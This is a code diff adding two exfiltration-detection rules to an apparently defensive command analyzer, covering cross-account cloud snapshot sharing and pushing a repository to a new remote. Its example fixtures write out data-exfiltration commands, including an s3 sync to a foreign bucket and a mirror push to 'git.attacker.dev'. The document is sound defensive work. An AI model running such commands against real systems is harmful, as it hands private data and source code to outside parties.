@@ -659,6 +659,30 @@ export const RULES: readonly Rule[] = [
       quiet: ['git push origin main', 'cp .env.example .env && git push', 'git add src && git commit -m x && git push'],
     },
   },
+  {
+    id: 'PX-EXFIL-012', name: 'shares-cloud-data-with-another-account', score: 80, tactic: 'exfiltration', technique: 'T1537',
+    message: 'Shares a snapshot, image or bucket with another cloud account', why: 'Granting a foreign account access to a disk snapshot or image hands over the data without any download to notice.',
+    commands: ['aws', 'gcloud', 'az'],
+    test: (c) => {
+      const a = c.argv;
+      const share = (c.name === 'aws' && a.some((w) => /^modify-(snapshot|image|db-snapshot|db-cluster-snapshot)-attribute$/.test(w)) && a.some((w) => w === '--user-ids' || w === '--values-to-add' || /createVolumePermission|launchPermission|Add=/.test(w))) || (c.name === 'aws' && a.includes('s3') && a.includes('sync') && a.filter((w) => w.startsWith('s3://')).length >= 2 && new Set(a.filter((w) => w.startsWith('s3://')).map((w) => w.slice(5).split('/')[0])).size > 1);
+      return share ? a.join(' ') : undefined;
+    },
+    examples: { fire: ['aws ec2 modify-snapshot-attribute --snapshot-id snap-0abc --attribute createVolumePermission --operation-type add --user-ids 999988887777', 'aws rds modify-db-snapshot-attribute --db-snapshot-identifier prod --attribute-name restore --values-to-add 999988887777', 'aws s3 sync s3://acme-prod-data s3://other-bucket-zz91'], quiet: ['aws ec2 describe-snapshots --owner-ids self', 'aws s3 sync s3://acme-prod-data/reports ./reports', 'aws s3 sync dist/ s3://acme-site'] },
+  },
+  {
+    id: 'PX-EXFIL-013', name: 'pushes-repository-to-new-remote', score: 60, tactic: 'exfiltration', technique: 'T1567.001',
+    message: 'Pushes the repository to a remote added or named by URL in the same command', why: 'A fresh remote plus push (all branches, tags, mirror) copies the whole codebase and its history out in one step.',
+    commands: ['git'],
+    test: (c, i) => {
+      if (c.argv[1] !== 'push') return undefined;
+      const added = new Set((i.view?.commands ?? []).filter((x) => x.name === 'git' && x.argv[1] === 'remote' && x.argv[2] === 'add').map((x) => x.argv[3]));
+      const target = operands(c).slice(1).find((w) => !w.startsWith('-'));
+      const wholesale = c.argv.some((w) => w === '--all' || w === '--mirror' || w === '--tags');
+      return target && (added.has(target) || /^(https?|ssh|git):\/\/|^[^@\s]+@[^:\s]+:/.test(target)) && (wholesale || added.has(target)) ? c.argv.join(' ') : undefined;
+    },
+    examples: { fire: ['git remote add backup https://gitlab.com/someone/mirror.git && git push backup --all --tags', 'git push --mirror https://git.attacker.dev/acme/api.git', 'git remote add x git@github.com:someone/leak.git && git push x main'], quiet: ['git push origin main', 'git push -u origin feature/login', 'git remote add upstream https://github.com/org/repo.git && git fetch upstream'] },
+  },
 ];
 
 export const exfiltration = ruleAnalyzer('exfiltration', RULES);
